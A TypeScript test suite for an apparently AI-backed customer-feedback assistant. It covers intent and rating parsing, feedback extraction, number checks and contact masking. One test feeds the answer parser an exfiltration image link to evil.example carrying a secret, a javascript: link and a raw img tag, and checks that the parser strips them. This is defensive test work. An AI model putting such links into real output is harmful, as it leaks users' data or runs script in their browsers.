import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { drawFeedback, proposeFeedback } from './draw-feedback.ts';
import { maskContacts } from './mask-contacts.ts';
import { parseAnswer } from './parse-answer.ts';
import { readIntent } from './read-intent.ts';
import { readRating } from './read-rating.ts';
import { unsupportedNumbers } from './unsupported-numbers.ts';

const ID = '01a203ce-6e68-7c5e-aa5c-df78eb6254cc';

describe('what somebody wants', () => {
  it.each([
    ['I want to leave feedback: the soup was cold', 'give_feedback'],
    ['Guarda esta opinión: la sopa estaba fría', 'give_feedback'],
    ['Enregistre cet avis : la soupe était froide', 'give_feedback'],
    ['Bitte Feedback speichern: die Suppe war kalt', 'give_feedback'],
    ['How are we doing today?', 'status'],
    ['¿Cómo va hoy?', 'status'],
    ['Combien d’avis aujourd’hui ?', 'status'],
    ['Why did the rating drop last week?', 'trend'],
    ['Warum ist es schlechter geworden?', 'trend'],
    ['What do customers complain about?', 'topics'],
    ['hello', 'help'],
    ['Is the parking lot a problem?', 'question'],
  ])('%s', (text, intent) => {
    expect(readIntent(text)).toBe(intent);
  });
});

describe('a rating in words', () => {
  it.each([
    ['I give it 4/5', 4],
    ['4 out of 5', 4],
    ['8/10', 4],
    ['five stars', 5],
    ['dos estrellas', 2],
    ['trois étoiles', 3],
    ['★★', 2],
    ['rating: 1', 1],
    ['a 3 maybe', 3],
    ['I waited 25 minutes at table 4 with my 2 kids', null],
    ['no idea', null],
  ])('%s', (text, rating) => {
    expect(readRating(text)).toBe(rating);
  });
});

describe('feedback in a conversation', () => {
  it('has a name, points, a rating and topics, and the customer’s own words', () => {
    const { rating, ...said } = drawFeedback(
      'Please store this feedback: My name is Ada Lovelace. The delivery was late. The cake was lovely. 4 stars',
    );
    const proposal = proposeFeedback(said, rating);
    expect(proposal).toMatchObject({ customer_name: 'Ada Lovelace', rating: 4, assumed: [] });
    expect(proposal.points).toContain('The delivery was late.');
    expect(proposal.topics).toContain('delivery');
  });

  it('has sensible defaults where nothing was said, and says so', () => {
    const { rating, ...said } = drawFeedback('customer said “The soup was cold and awful”');
    expect(said).toEqual({ customer_name: null, feedback: 'The soup was cold and awful' });
    const proposal = proposeFeedback(said, rating);
    expect(proposal.assumed).toEqual(['customer_name', 'rating']);
    expect(proposal).toMatchObject({ customer_name: 'Anonymous' });
    expect(proposal.rating).toBeLessThan(3);
  });

  it('never fails, and never makes more than can be stored', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 3000 }), (text) => {
        const { rating, ...said } = drawFeedback(text);
        expect([...said.feedback].length).toBeLessThanOrEqual(1000);
        expect([1, 2, 3, 4, 5]).toContain(proposeFeedback(said, rating).rating);
      }),
      { numRuns: 50 },
    );
  });
});

describe('an answer', () => {
  it('is shown as text, lists, and links to the desk alone', () => {
    const text = [
      '## Today',
      `**Good**: see [[${ID}]] and [reports](/admin/reports).`,
      '- one',
      '- two `code`',
      '![pixel](https://evil.example/?q=secret) [here](https://evil.example) [x](javascript:alert(1)) [y](//evil.example/admin)',
      '<img src="https://evil.example/x.png">',
    ].join('\n');
    const blocks = parseAnswer(text, [ID]);
    expect(blocks[1]).toEqual({
      kind: 'paragraph',
      inline: [
        { kind: 'strong', text: 'Good' },
        { kind: 'text', text: ': see ' },
        { kind: 'cite', id: ID, number: 1 },
        { kind: 'text', text: ' and ' },
        { kind: 'link', text: 'reports', href: '/admin/reports' },
        { kind: 'text', text: '.' },
      ],
    });
    const all = JSON.stringify(blocks);
    expect(all.match(/"href":"[^"]*"/g)).toEqual(['"href":"/admin/reports"']);
    expect(all).not.toMatch(/secret|javascript|\/\/evil\.example\/admin/);
    expect(blocks.at(-1)).toMatchObject({ inline: [{ kind: 'text' }] });
  });

  it('cites only what was read for it', () => {
    expect(parseAnswer(`See [[${ID}]].`, [])).toEqual([
      {
        kind: 'paragraph',
        inline: [
          { kind: 'text', text: 'See ' },
          { kind: 'text', text: '.' },
        ],
      },
    ]);
  });

  it('never links elsewhere, whatever it says', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 60 }), fc.string({ maxLength: 60 }), (label, href) => {
        const links = JSON.stringify(parseAnswer(`[${label}](${href}) ![${label}](${href})`, []));
        for (const [, path] of links.matchAll(/"href":"([^"]*)"/g)) {
          expect(new URL(path ?? '', 'https://desk.example').origin).toBe('https://desk.example');
          expect(path).toMatch(/^\/admin/);
        }
      }),
    );
  });

  it('is told apart from its sources where its numbers are not theirs', () => {
    const read = ['Total feedback: 1234\nAverage rating: 3.46', 'share 0.125'];
    expect(unsupportedNumbers('1,234 pieces, 3.5 on average, 12.5 %, 3 reasons', read)).toEqual([]);
    expect(unsupportedNumbers('1.234 opiniones, 3,46', read)).toEqual([]);
    expect(unsupportedNumbers('It fell by 37 % to 2.10.', read)).toEqual(['37', '2.10']);
  });
});

it('a text for a model says nothing of how to reach its author', () => {
  expect(
    maskContacts('Call +33 6 12 34 56 78 or ada@bakery.example, see https://x.example/a?b=1 at 5'),
  ).toBe('Call [number] or [e-mail], see [link] at 5');
});
